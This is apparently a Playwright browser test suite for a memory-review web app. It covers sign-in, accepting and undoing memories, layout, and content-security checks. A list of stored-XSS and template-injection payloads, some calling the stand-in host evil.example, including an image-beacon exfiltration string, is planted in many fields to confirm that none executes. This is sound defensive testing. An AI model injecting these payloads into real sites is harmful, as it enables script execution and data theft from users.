"""What a person does, in a real browser: signs in, rules, undoes; and what no page may do."""

from __future__ import annotations

import os
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import TYPE_CHECKING, Any
from urllib.parse import quote

import pytest
from datasette.utils import tilde_encode

from tests.web.conftest import Server, converse, remember, say
from workbench import access
from workbench.home import Home
from workbench.ledger import store
from workbench.ledger.change import Change
from workbench.ledger.model import PERSON, Evidence, Kind, Privacy
from workbench.operations import dream, memories, rulings

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

pytestmark = pytest.mark.browser

RUNS = [
    "<script>canary()</script>",
    "<img src=x onerror=canary()>",
    "<svg/onload=canary()>",
    '"><script>canary()</script>',
    "' onmouseover='canary()",
    "javascript:canary()",
    "</textarea><script>canary()</script>",
    "</script><script>canary()</script>",
    "{{ 7*7 }}{% include 'x' %}",
    "![x](https://evil.example/?d=1)",
    "<iframe src=https://evil.example></iframe>",
    "<style>@import 'https://evil.example/x.css'</style>",
]


class Watched:
    """A page that notes every violation, script error and foreign request."""

    def __init__(self, page: Page, server: Server) -> None:
        self.page = page
        self.server = server
        self.faults: list[str] = []
        page.add_init_script(
            "window.canary = () => console.error('CANARY RAN');"
            "document.addEventListener('securitypolicyviolation',"
            " (e) => console.error('VIOLATION ' + e.violatedDirective + ' ' + e.blockedURI + ' ' + e.sourceFile));"
        )
        page.on("console", self._console)
        page.on("pageerror", lambda error: self.faults.append(f"{page.url}: {error}"))
        page.on("request", self._request)

    def _console(self, message: Any) -> None:
        # The browser's own remark about a 404 we asked for is no fault of the page.
        if message.type in ("error", "warning") and not message.text.startswith("Failed to load resource"):
            self.faults.append(f"{self.page.url}: {message.text}")

    def _request(self, request: Any) -> None:
        if not request.url.startswith((f"http://{self.server.netloc}/", "data:")):
            self.faults.append(f"{self.page.url} asked for {request.url}")

    def open(self, path: str) -> int:
        """Open one of the server's pages; its status."""
        response = self.page.goto(self.server.url + path, wait_until="load")
        assert response is not None
        return response.status

    def sign_in(self) -> None:
        """As `workbench open` does: a link with the code in its fragment."""
        self.open("/-/memory/sign-in#" + access.create_code(self.server.home))
        self.page.wait_for_url("**/-/memory/review")


@pytest.fixture
def watch(browser: Browser) -> Iterator[Callable[..., Watched]]:
    """Open a page in a context of its own; at the end there must be no fault."""
    opened: list[Watched] = []

    def opening(server: Server, **options: Any) -> Watched:
        opened.append(Watched(browser.new_context(**options).new_page(), server))
        return opened[-1]

    yield opening
    faults = [fault for watched in opened for fault in watched.faults]
    for watched in opened:
        watched.page.context.close()
    assert faults == []


@pytest.mark.parametrize("scripts", [True, False], ids=["javascript", "no-javascript"])
def test_accept_shows_in_memory_md_and_undo_takes_it_out(
    home: Home, serve: Callable[..., Server], watch: Callable[..., Watched], scripts: bool
) -> None:
    server = serve(home)
    remember(home, "I prefer oat milk in my coffee")
    watched = watch(server, java_script_enabled=scripts)
    page = watched.page
    if scripts:
        watched.sign_in()
        assert "#" not in page.url
    else:
        watched.open("/")
        page.get_by_label("Code").fill(access.create_code(home))
        page.get_by_role("button", name="Sign in").click()
        watched.open("/-/memory/review")
    page.get_by_role("button", name="Accept", exact=True).click()
    assert page.get_by_role("status").inner_text().startswith("accepted")
    assert "I prefer oat milk in my coffee" in home.memory_md.read_text("utf-8")
    page.get_by_role("button", name="Undo").click()
    assert page.get_by_role("status").inner_text().startswith("undone")
    assert "oat milk" not in home.memory_md.read_text("utf-8")
    assert page.get_by_text("I prefer oat milk in my coffee").count() > 0


def test_reject_with_a_reason_and_correct_in_place(
    home: Home, serve: Callable[..., Server], watch: Callable[..., Watched]
) -> None:
    server = serve(home)
    wrong = remember(home, "I prefer to be called Bob")
    almost = remember(home, "I prefer meetings at 9")
    watched = watch(server)
    watched.sign_in()
    page = watched.page
    card = page.locator(f"#{wrong}")
    card.get_by_text("Reject", exact=True).first.click()
    card.get_by_label("Why").fill("nobody says that")
    card.get_by_role("button", name="Reject").click()
    assert memories.show(home, wrong).memory.status == "rejected"
    card = page.locator(f"#{almost}")
    card.get_by_text("Correct", exact=True).click()
    card.get_by_role("textbox", name="What is true").fill("I prefer meetings at 10")
    card.get_by_role("button", name="Save and accept").click()
    page.get_by_role("heading", name="Nothing waits").wait_for()
    assert "I prefer meetings at 10" in home.memory_md.read_text("utf-8")


@pytest.mark.parametrize("width", [900, 360])
def test_what_opens_lies_below_the_buttons(server: Server, watch: Callable[..., Watched], width: int) -> None:
    memory = remember(server.home, f"I prefer calm pages of {width} px")
    watched = watch(server, viewport={"width": width, "height": 740})
    watched.sign_in()
    watched.open(f"/-/memory/{memory}")
    page = watched.page
    row = [page.get_by_role("button", name="Accept", exact=True)]
    row += [page.locator("summary", has_text=name) for name in ("Correct", "Reject")]
    before = [element.bounding_box() for element in row]
    for name, field in (("Correct", "What is true"), ("Reject", "Why (optional)")):
        page.locator("summary", has_text=name).click()
        opened = page.get_by_label(field)
        assert opened.is_visible()
        assert [element.bounding_box() for element in row] == before
        assert opened.bounding_box()["y"] > max(box["y"] + box["height"] for box in before)  # type: ignore[index]
    assert not page.get_by_label("What is true").is_visible(), "one at a time"


def test_a_locked_memory_is_replaced_only_when_the_box_is_ticked(
    home: Home, serve: Callable[..., Server], watch: Callable[..., Watched]
) -> None:
    server = serve(home)
    holder = remember(home, "My editor is Vim", kind=Kind.PROFILE, fact_key="tools.editor", confidence=0.9)
    rulings.accept(home, PERSON, holder)
    with store.writing(home) as connection:
        Change(connection, PERSON).update("memories", holder, authority="locked")
    newcomer = remember(home, "My editor is Emacs", kind=Kind.PROFILE, fact_key="tools.editor", confidence=0.9)
    watched = watch(server)
    watched.sign_in()
    card = watched.page.locator(f"#{newcomer}")
    assert "My editor is Vim" in card.inner_text()
    accept = card.get_by_role("button", name="Accept", exact=True)
    accept.click()
    assert memories.show(home, newcomer).memory.status == "needs_review"
    # A form without the box, such as that of an old page, is told what is missing.
    answer = server.post(f"/-/memory/{newcomer}/accept", {"back": "review"})
    assert "locked" in server.get(answer.headers["location"]).text
    card.get_by_label("replace a locked memory").first.check()
    accept.click()
    assert memories.show(home, newcomer).memory.status == "active"
    assert memories.show(home, holder).memory.status == "superseded"


def test_from_a_waiting_memory_to_the_very_message(
    home: Home, serve: Callable[..., Server], watch: Callable[..., Watched]
) -> None:
    """On the second page of a long conversation, with everything else folded or marked as what it is."""
    talk = [say(0, "user", f"filler {number}", timestamp=None) for number in range(230)]
    for number, message in enumerate(talk):
        message.identity = f"filler-{number}"
    said = say(1, "user", "Always run the tests with `make check` before you commit.")
    rest = (
        say(2, "assistant", "", tool_calls=[{"id": "t", "name": "Bash", "input": {"command": "make check"}}]),
        say(3, "tool", "128 passed", tool_call_id="t"),
        say(4, "user", "<system-reminder>be careful</system-reminder>", origin="harness"),
        say(5, "assistant", "I should not have said this", state="withdrawn", thinking="Hm."),
    )
    number = converse(home, "claude:kitchen/a.b", *talk, said, *rest)[len(talk)]
    dream.dream(home)
    watched = watch(serve(home))
    watched.sign_in()
    page = watched.page
    page.get_by_role("link", name="in the conversation").first.click()
    assert page.url.endswith(f"#m{number}")
    target = page.locator(f"#m{number}")
    assert "make check" in target.inner_text()
    assert page.evaluate("e => e.getBoundingClientRect().top < innerHeight", target.element_handle())
    assert not page.get_by_text("128 passed").is_visible()
    page.get_by_text("Result (10 characters)").click()
    assert page.get_by_text("128 passed").is_visible()
    assert page.locator(".wb-withdrawn").get_by_text("withdrawn", exact=True).is_visible()
    assert page.get_by_text("Not said by a person").is_visible()
    watched.open("/-/sessions?q=tests+commit")
    assert page.locator("mark").count() > 0
    page.get_by_role("link", name="claude:kitchen/a.b").click()
    assert page.url.endswith(f"#m{number}")


DATASETTES = (
    *("/", "/memory_governance", "/memory_governance/memories", "/memory_governance/memories?_facet=kind&_sort=seq"),
    *("/memory_governance/memories/1", "/memory_governance/memory_events?_facet=action", "/session_index"),
    *("/memory_governance/-/query", "/memory_governance/-/query?sql=select+*+from+memories+limit+3"),
    *("/memory_governance/-/query?sql=select+nope", "/memory_governance/acts", "/session_index/messages"),
    "/memory_governance/-/query?sql=with+recursive+t(x)+as+(select+1+union+all+select+x%2B1+from+t)+select+max(x)+from+t",
    *(
        "/memory_governance/memories?_search=prefer",
        "/memory_governance/nope",
        "/nope",
        "/session_index/messages/9999999",
    ),
    *("/memory_governance/memories.json", "/memory_governance/memories.csv?_size=1", "/memory_governance.db"),
    *("/-/versions", "/-/plugins", "/-/settings", "/-/config", "/-/databases", "/-/actor", "/-/api", "/-/queries"),
    *("/-/schema", "/-/permissions", "/-/allowed", "/-/rules", "/-/check", "/-/messages", "/-/allow-debug"),
    *("/-/patterns", "/-/create-token", "/-/logout", "/-/debug/autocomplete", "/memory_governance/-/queries"),
    *("/memory_governance/-/execute-write", "/memory_governance/-/schema", "/memory_governance/memories/-/schema"),
)
OURS = (
    *("/-/memory/review", "/-/memory", "/-/memory?status=all&q=prefer", "/-/memory?kind=nope", "/-/sessions"),
    *(
        "/-/sessions?q=prefer",
        "/-/sessions/nope",
        "/-/memory/m_00",
        "/-/memory.json",
        "/-/memory/review?page=7",
        "/-/memory/nope/nope",
    ),
)


@pytest.mark.parametrize("options", [{}, {"color_scheme": "dark", "viewport": {"width": 360, "height": 740}}])
def test_no_page_breaks_its_policy(server: Server, watch: Callable[..., Watched], options: dict[str, Any]) -> None:
    memory = remember(server.home, "I prefer pages without faults")
    watched = watch(server, **options)
    assert watched.open("/-/memory/review") == 200
    assert "/-/memory/sign-in?next=" in watched.page.url
    watched.sign_in()
    for path in (*DATASETTES, *OURS, f"/-/memory/{memory}"):
        assert watched.open(path) < 500, path
        if "viewport" in options and path in OURS:
            wide = watched.page.evaluate("document.documentElement.scrollWidth - window.innerWidth")
            assert wide <= 0, f"{path} is {wide} px wider than the phone"


def test_the_editor_and_the_column_chooser_work(server: Server, watch: Callable[..., Watched]) -> None:
    watched = watch(server, viewport={"width": 360, "height": 740})
    watched.sign_in()
    watched.open("/memory_governance/-/query?sql=select+1")
    assert watched.page.locator(".cm-editor").count() == 1
    assert watched.page.locator(".cm-scroller").evaluate("e => getComputedStyle(e).display") == "flex"
    watched.open("/memory_governance/memories")
    watched.page.get_by_role("button", name="Choose columns").click()
    assert watched.page.locator("column-chooser dialog[open]").count() == 1


def test_no_stored_text_runs(server: Server, watch: Callable[..., Watched]) -> None:
    """In every field somebody else can fill: content, excerpt, session key, scope, fact key, agent, reason."""
    ids = []
    for number, text in enumerate(RUNS):
        ids.append(
            remember(
                server.home,
                f"I prefer {number} {text}",
                kind=Kind.FACT,
                privacy=Privacy.SENSITIVE,
                fact_key=f"k{number}.{text}",
                scope_type="project",
                scope_key=text,
                tags=(text,),
                source_agent=text,
                source_session=f"claude:{text}",
                evidence=(Evidence("url", text, text, text), Evidence("session", f"claude:{text}#7", text, None)),
            )
        )
        converse(
            server.home,
            f"claude:{text}",
            say(1, "user", f"hostile {text}", name=text),
            say(2, "assistant", text, thinking=text, tool_calls=[{"name": text, "input": {text: text}}]),
            say(3, "tool", text, tool_call_id=text),
            say(4, "user", text, origin="harness", timestamp=text),
            title=text,
        )
    server.post(f"/-/memory/{ids[0]}/reject", {"reason": RUNS[0], "back": "memory"})
    watched = watch(server)
    watched.sign_in()
    paths = [
        "/-/memory/review",
        "/-/memory?status=all",
        "/memory_governance/memories",
        "/memory_governance/memory_evidence",
    ]
    paths += [f"/-/memory/{memory}" for memory in ids] + [
        f"/-/sessions/{tilde_encode('claude:' + text)}" for text in RUNS
    ]
    paths += [f"/-/memory?q={quote(text)}" for text in RUNS]
    paths += ["/-/sessions", "/-/sessions?q=hostile", "/session_index/messages", "/session_index/sessions"]
    for path in paths:
        assert watched.open(path) == 200, path
        # Everything is opened, hovered on, and given two frames to run.
        watched.page.evaluate(PROVOKE)
    assert "<script>canary()</script>" in watched.page.locator("body").inner_text()


PROVOKE = """() => {
  document.querySelectorAll("details").forEach((e) => { e.open = true; });
  document.querySelectorAll("section.content *").forEach((e) => e.dispatchEvent(new MouseEvent("mouseover")));
  return new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)));
}"""


def test_the_watch_would_see_a_script_run(server: Server, browser: Browser) -> None:
    """The net itself: a page that does run, load and reach out is noticed."""
    watched = Watched(browser.new_context().new_page(), server)
    watched.open("/-/memory/sign-in")
    watched.page.evaluate("canary()")
    watched.page.evaluate("document.body.insertAdjacentHTML('beforeend', '<img src=https://evil.example/x.png>')")
    watched.page.evaluate(
        "document.body.append(Object.assign(document.createElement('script'), {textContent: 'canary()'}))"
    )
    watched.page.evaluate(PROVOKE)
    seen = " ".join(watched.faults)
    watched.page.context.close()
    assert "CANARY RAN" in seen
    assert "VIOLATION img-src https://evil.example/x.png" in seen
    assert "VIOLATION script-src-elem inline" in seen


def test_screenshot(home: Home, serve: Callable[..., Server], watch: Callable[..., Watched], tmp_path: Path) -> None:
    """The picture of the review page in the documents; it replaces theirs when WORKBENCH_SCREENSHOT names the file."""
    path = Path(os.environ.get("WORKBENCH_SCREENSHOT") or tmp_path / "review.png")
    converse(
        home,
        "claude:planner",
        say(1, "user", "Remember that I live in Lisbon."),
        say(2, "user", "Always run the tests with make check before you commit."),
    )
    dream.dream(home)
    (lisbon,) = memories.list_memories(home).items
    rulings.accept(home, PERSON, lisbon.id)
    converse(home, "claude:moving", say(3, "user", "I live in Porto now."))
    dream.dream(home)
    watched = watch(serve(home), viewport={"width": 900, "height": 640})
    watched.sign_in()
    watched.page.screenshot(path=path, full_page=True)
    assert path.read_bytes().startswith(b"\x89PNG")
